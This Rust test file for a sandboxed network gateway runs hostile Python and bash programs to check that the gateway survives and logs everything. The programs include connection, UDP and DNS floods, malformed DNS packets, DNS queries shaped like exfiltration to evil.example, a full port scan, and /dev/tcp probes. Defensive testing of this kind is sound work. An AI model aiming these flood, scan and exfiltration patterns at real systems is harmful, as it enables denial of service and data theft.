//! Hostile programs in real cells that want more of the gateway than it has. It stays up, its memory
//! is bounded, and its record adds up.

use std::fs;

use cellos_testkit::require;

use crate::{hostile::Attack, program::Place};

#[test]
fn ten_thousand_connections_leave_room_for_one_more() {
    require!("userns");
    require!("python3");
    let attack = Attack::new(
        None,
        r#"
resets = 0
for _ in range(10000):
    s = socket.socket(); s.connect(THERE)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)); s.close()
until_allowed()
print("one after another done", flush=True)
held, refused = [], 0
deadline = time.time() + 60
while len(held) < 10000 and time.time() < deadline:
    s = socket.socket(); s.setblocking(False)
    try: s.connect(THERE)
    except BlockingIOError: pass
    except OSError: refused += 1; continue
    held.append(s)
time.sleep(0.5)
print(len(held), "at once", flush=True)
# A byte now and then, as slowly as anybody can.
for s in held[:2000]:
    try: s.send(b"G")
    except OSError: pass
for s in held: s.close()
until_allowed()
"#,
    );
    attack.succeeds();
    let egress = attack.egress();
    println!("{egress}");
    let all = egress["flowsAllowed"].as_u64().unwrap() + egress["flowsRefused"].as_u64().unwrap();
    // Those that had broken off before they were accepted have no address any more.
    assert!(egress["flowsAllowed"].as_u64().unwrap() >= 2, "{egress}");
    assert!(all > 1000, "{egress}");
    let told: u64 = attack
        .flows()
        .iter()
        .map(|flow| flow["count"].as_u64().unwrap_or(1))
        .sum();
    assert_eq!(told, all, "every one is told, or counted in what is told");
}

#[test]
fn clients_that_never_read_and_servers_that_never_answer_hold_only_what_is_theirs() {
    require!("userns");
    require!("python3");
    let attack = Attack::new(
        Some("tcp"),
        r#"
held = []
for n in range(300):
    s = connect(); s.setblocking(False)
    try:
        # Until nothing more fits anywhere.
        while s.send(b"x" * 65536 if n < 20 else b"x"): 
            if n >= 20: break
    except BlockingIOError: pass
    held.append(s)
allowed.__globals__["heard"] = lambda s: s.recv(4096)
allowed()
"#,
    );
    attack.succeeds();
    let flows = attack.flows();
    let ended = flows.iter().filter(|flow| flow["decision"] == "allow");
    assert_eq!(ended.count(), 301);
}

#[test]
fn a_flood_of_queries_and_of_what_is_none_leaves_the_name_server_up() {
    require!("userns");
    require!("python3");
    let attack = Attack::new(
        None,
        r#"
import random
random.seed(5)
SERVER = ("198.18.0.53", 53)
def query(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", random.randrange(65536), 0x100, 1, 0, 0, 0) + labels + b"\x00" + struct.pack(">2H", kind, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(SERVER); u.settimeout(0.2)
begun, answered = time.time(), 0
for n in range(10000):
    u.send(query(f"n{n}.secret-{n}.evil.example", random.choice((1, 28, 16, 65, 255))))
    if n % 8 == 7:
        try:
            while True:
                u.recv(4096); answered += 1
                if answered == n + 1: break
        except OSError: pass
print("10000 names,", answered, "answers,", round(time.time() - begun, 1), "s", flush=True)
good = query(NAME)
for n in range(5000):
    bad = bytearray(good)
    for _ in range(random.randrange(1, 6)): bad[random.randrange(len(bad))] = random.randrange(256)
    u.send(bytes(bad[:random.randrange(len(bad) + 1)]))
for size in (0, 1, 11, 12, 13, 512, 1024, 1025, 4096, 65507):
    u.send(b"\x00" * size); u.send(b"\xff" * size); u.send((b"\xc0\x0c" * size)[:size]); u.send((good + b"\x00" * size)[:65507])
# Names that point to themselves, and more questions than there are.
for n in range(200):
    u.send(good[:12] + b"\xc0\x0c" + good[-4:]); u.send(good[:4] + b"\xff\xff" * 4 + good[12:])
# Over TCP: one byte in a while, lengths that lie, nothing at all, and never an answer read.
held = []
for n in range(400):
    s = socket.create_connection(SERVER, 5); held.append(s)
    try: s.sendall((b"", b"\x00", b"\xff\xff" + b"\x00" * 3000, struct.pack(">H", len(good)) + good[:-1], (struct.pack(">H", len(good)) + good) * 400)[n % 5])
    except OSError: pass
for s in held: s.close()
for _ in range(3): assert socket.getaddrinfo(NAME, PORT, socket.AF_INET, socket.SOCK_STREAM)[0][4] == THERE
until_allowed()
"#,
    );
    let outcome = attack.succeeds();
    println!("{}", String::from_utf8_lossy(&outcome.output.stdout));
    let refused = attack.egress()["queriesRefused"].as_u64().unwrap();
    assert!((5_000..20_000).contains(&refused), "{refused}");
    let queries = attack.events("dns_query");
    assert!(queries.len() < 1000, "{} events", queries.len());
    let denied = queries.iter().filter(|query| query["decision"] == "deny");
    let told: u64 = denied
        .map(|query| query["count"].as_u64().unwrap_or(1))
        .sum();
    assert_eq!(told, refused);
}

#[test]
fn datagrams_from_everywhere_to_everywhere_are_bounded_and_told() {
    require!("userns");
    require!("python3");
    let attack = Attack::new(
        None,
        r#"
there = (THERE[0], UDP)
sockets = []
for n in range(3000):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); sockets.append(u)
    u.sendto(b"x" * 1200, there)
    u.sendto(b"x", (f"203.0.113.{n % 256}", UDP))
    # The cell's own kernel drops what comes faster than it is read.
    if n % 20 == 19: time.sleep(0.005)
    if n % 1000 == 999: time.sleep(1.2)
time.sleep(1.2)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(b"echo", there); said, by = u.recvfrom(100)
assert (said, by) == (b"echo", there), (said, by)
for n in range(20000): u.sendto(b"y" * 100, there)
allowed()
"#,
    );
    let outcome = attack.succeeds();
    println!("{} {} MB", attack.egress(), outcome.resident_mb);
    assert!(attack.refused("too_many_flows") > 0);
    let told: u64 = attack
        .flows()
        .iter()
        .map(|flow| flow["count"].as_u64().unwrap_or(1))
        .sum();
    let egress = attack.egress();
    let all = egress["flowsAllowed"].as_u64().unwrap() + egress["flowsRefused"].as_u64().unwrap();
    assert_eq!(told, all);
}

#[test]
fn a_scan_of_every_port_is_counted_to_the_last_one() {
    require!("userns");
    require!("python3");
    let attack = Attack::new(
        None,
        r#"
attempts = 0
for port in range(1, 65536):
    if port in (PORT, 53): continue
    s = socket.socket(); attempts += 1
    try:
        s.connect(("192.0.2.7", port))
        # A socket may get the port as its own that it connects to, and then is its own other side.
        assert s.getsockname() == s.getpeername(), port
        attempts -= 1
    except ConnectionRefusedError: pass
    s.close()
# The kernel tells how many were lost with the next one that was not.
time.sleep(0.5)
s = socket.socket(); attempts += 1
try: s.connect(("192.0.2.8", 9))
except ConnectionRefusedError: pass
allowed()
print(attempts)
"#,
    );
    let outcome = attack.succeeds();
    let attempts: u64 = String::from_utf8_lossy(&outcome.output.stdout)
        .trim()
        .parse()
        .unwrap();
    assert_eq!(attack.refused("undeclared_port"), attempts);
    assert!(
        attack.flows().len() < 300,
        "{} events",
        attack.flows().len()
    );
    let egress = attack.egress();
    assert_eq!(egress["flowsRefused"], attempts, "{egress}");
}

/// Whoever tries and ends at once is seen, too.
#[test]
fn the_last_attempt_before_the_end_is_told() {
    require!("userns");
    for _ in 0..10 {
        let place = Place::new();
        let events = place.events();
        let script =
            "for port in 81 82 83 84 85; do (exec 3<>/dev/tcp/192.0.2.7/$port); done; kill -9 $$";
        let ran = place
            .cellos(&["run", "--quiet", "--allow", "127.0.0.1:9", "--events"])
            .args([events.to_str().unwrap(), "--", "bash", "-c", script])
            .output()
            .unwrap();
        assert_eq!(ran.status.code(), Some(137), "{ran:?}");
        let log = fs::read_to_string(&events).unwrap();
        for port in 81..86 {
            let field = format!("\"dstPort\":{port},");
            assert!(log.contains(&field), "{port} is missing: {log}");
        }
    }
}
